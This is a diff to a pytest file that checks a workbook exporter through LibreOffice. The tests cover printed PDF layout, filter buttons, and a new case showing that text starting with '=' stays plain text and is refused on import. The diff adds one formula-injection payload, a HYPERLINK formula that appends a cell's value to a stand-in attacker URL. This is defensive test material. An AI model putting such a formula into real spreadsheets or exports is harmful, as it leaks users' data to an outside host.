@@ -14,6 +14,7 @@ import datetime as dt
 import re
 import shutil
 import subprocess
+import zipfile
 from collections.abc import Callable
 from pathlib import Path
 from typing import Any
@@ -22,8 +23,11 @@ import openpyxl
 import pytest
 
 from scripts.model.package import load_package
-from scripts.xlsx.importer import import_workbook
-from scripts.xlsx.reader import escape_ooxml_text
+from scripts.xlsx.ooxml import escape_ooxml_text
+from scripts.xlsx.read.importer import import_workbook
+from scripts.xlsx.read.layout import read_layout
+from tests.faults.support import patch_part
+from tests.libreoffice.pdf_text import page_text_sizes
 from tests.unit.xlsx_support import cell_changes, checksums, column_of, copy_package, edit, export, row_of
 
 pytestmark = pytest.mark.libreoffice
@@ -31,6 +35,7 @@ pytestmark = pytest.mark.libreoffice
 CSV_FILTER = "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,-1"
 MONTH_MEETING = "ca-consultative-6"  # date_start 2024-08; venue empty and uncited
 VERBATIM_FIGURE = "intraregional-trade-region-2023-src-000"
+MIN_TEXT_PT = 8.0  # the smallest printed text size accepted
 
 
 def _meeting_cell(wb: Any, column: str, value: Any) -> None:
@@ -91,6 +96,22 @@ EDITS: dict[str, Callable[[Any], None]] = {
 }
 
 
+FORMULA_LIKE = '=HYPERLINK("http://evil.example/?leak="&A2,"click")'
+
+
+def _formula_like(exported: Path, dest: Path) -> Path:
+    """The export as it is written for a text starting like a formula: the first topic's
+    description an inline string (openpyxl would turn such a text into a formula)."""
+    with zipfile.ZipFile(exported) as archive:
+        part = read_layout(archive, 1 << 26).sheets["topics"]
+        xml = archive.read(part).decode("utf-8")
+    cell = re.search(r'<c r="C2" [^>]*t="inlineStr"><is><t>[^<]*</t></is></c>', xml)
+    assert cell is not None
+    text = FORMULA_LIKE.replace("&", "&amp;")
+    return patch_part(exported, dest, part, lambda old: old.replace(
+        cell.group(0), re.sub(r"<t>[^<]*</t>", f"<t>{text}</t>", cell.group(0))))
+
+
 def soffice(args: list[str], profile: Path) -> None:
     done = subprocess.run([shutil.which("soffice") or "soffice", f"-env:UserInstallation={profile.as_uri()}",
                            "--headless", "--norestore", *args], capture_output=True, text=True, timeout=300)
@@ -108,6 +129,7 @@ def work(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
     edited = [edit(exported, base / "edited" / f"{name}.xlsx", change) if name != "untouched"
               else shutil.copy(exported, base / "edited" / "untouched.xlsx")
               for name, change in EDITS.items()]
+    edited.append(_formula_like(exported, base / "edited" / "formula_like.xlsx"))
     profile = base / "profile"
     soffice(["--convert-to", "xlsx", "--outdir", str(base / "resaved"), *map(str, edited)], profile)
     soffice(["--convert-to", "pdf", "--outdir", str(base / "pdf"), str(exported)], profile)
@@ -131,10 +153,70 @@ def _import(pkg: Path, work: dict[str, Path], name: str, sources: Path | None = 
     return result
 
 
-def test_pdf_export_works_and_prints_every_sheet_fitted(work):
-    pdf = work["pdf"].read_bytes()
-    pages = len(re.findall(rb"/Type\s*/Page\b", pdf))
-    assert 20 < pages < 60  # one page wide: tens of pages, not the 113 of a sheet printed unfitted
+def _printed_pages(pdf: Path) -> list[tuple[str, str]]:
+    """(sheet, text) of every page of the printed workbook; the sheet is read from the footer,
+    which names it (``&A``) beside the page number."""
+    if shutil.which("pdftotext") is None:
+        pytest.skip("pdftotext is not installed: apt-get install poppler-utils (.ci/run does this)")
+    text = subprocess.run(["pdftotext", "-layout", str(pdf), "-"], capture_output=True, text=True,
+                          check=True, timeout=120).stdout
+    pages = []
+    for page in text.split("\f")[:-1]:
+        footer = re.fullmatch(r"\s*(\S.*?)\s{2,}Page \d+ of \d+", page.strip().splitlines()[-1])
+        assert footer is not None, page[-200:]
+        pages.append((footer.group(1), page))
+    return pages
+
+
+def test_no_value_prints_as_hashes_and_figures_print_with_their_unit(work):
+    """A number too wide for its column prints as ###: the widths are measured on the text the
+    number format shows (36.5 becomes "36.5 billion USD"), so none does."""
+    pages = _printed_pages(work["pdf"])
+    assert [(sheet, line.strip()) for sheet, text in pages for line in text.splitlines() if "###" in line] == []
+    indicators = "".join(text for sheet, text in pages if sheet == "indicators")
+    assert "36.5 billion USD" in indicators and "5,000" in indicators
+
+
+def test_every_page_prints_its_text_at_a_readable_size(work):
+    """The effective size of every text on every page is at least MIN_TEXT_PT points.
+
+    Method: the PDF is read by :mod:`tests.libreoffice.pdf_text`, which follows each page's
+    drawing operators: a text's size is the font size of ``Tf`` times the vertical scale of the
+    text matrix and of the current transformation, which is where LibreOffice's print scaling
+    shows (an 11-point cell on a sheet fitted at 43 % is drawn as a 4.7-point font). The export
+    fits a sheet to the page width only while that keeps 11-point text at 75 % (8.25 points),
+    else prints it at 75 % across pages; the chart's axis labels have a stated size."""
+    sheets = [sheet for sheet, _ in _printed_pages(work["pdf"])]
+    small = [(number, sheet, min(sizes)) for number, (sheet, sizes) in
+             enumerate(zip(sheets, page_text_sizes(work["pdf"]), strict=True), start=1)
+             if sizes and min(sizes) < MIN_TEXT_PT]
+    assert small == []
+
+
+def test_wide_sheets_print_across_pages_with_the_key_column_on_every_page(work):
+    """No column is cut off (every header prints on some page of its sheet) and every page of a
+    table sheet shows the header of its key column, so each printed value can be traced to its
+    record; meetings (19 columns) takes more than one page across."""
+    pages = _printed_pages(work["pdf"])
+    for name, table in load_package(work["package"]).tables.items():
+        texts = [text for sheet, text in pages if sheet == name]
+        assert texts, name
+        assert all(table.field_names[0] in text for text in texts), name
+        assert [f for f in table.field_names if not any(re.search(rf"\b{f}\b", t) for t in texts)] == [], name
+    first_rows = [text for sheet, text in pages if sheet == "meetings" and "ca-consultative-1 " in text]
+    assert len(first_rows) >= 2
+
+
+def test_every_table_sheet_keeps_its_filter_buttons_through_libreoffice(work):
+    """Each table sheet is an Excel table with an AutoFilter over all its rows; LibreOffice shows
+    it as filter buttons and writes it back on save."""
+    wb = openpyxl.load_workbook(work["resaved"] / "untouched.xlsx")
+    for name, table in load_package(work["package"]).tables.items():
+        ws = wb[name]
+        with table.path.open(encoding="utf-8", newline="") as handle:
+            rows = sum(1 for _ in csv.reader(handle))
+        full = f"A1:{ws.cell(1, len(table.fields)).column_letter}{max(rows, 2)}"
+        assert [(t.ref, t.autoFilter.ref) for t in ws.tables.values()] == [(full, full)], name
 
 
 def test_libreoffice_reads_every_table_as_written(work):
@@ -197,3 +279,16 @@ def test_lost_update_is_refused_after_a_resave(pkg, work):
                       encoding="utf-8")
     result = _import(pkg, work, "untouched")
     assert [p.rule for p in result.problems] == ["tables-changed"]
+
+
+def test_text_that_looks_like_a_formula_stays_text_through_libreoffice(pkg, work):
+    """A text starting with "=" is an inline string in the workbook: LibreOffice opens and saves it
+    as text (not as the live formula it spells), and the import reads back exactly that text, which
+    validation then refuses (``no_formula_text``): the released CSVs must never hold a cell that a
+    spreadsheet opening them would run."""
+    before = (pkg / "tables" / "topics.csv").read_bytes()
+    result = _import(pkg, work, "formula_like")
+    [problem] = result.problems
+    assert (problem.rule, problem.field, problem.value) == ("no_formula_text", "description", FORMULA_LIKE)
+    assert problem.message.startswith("topics!C2: description starts with '='")
+    assert (pkg / "tables" / "topics.csv").read_bytes() == before
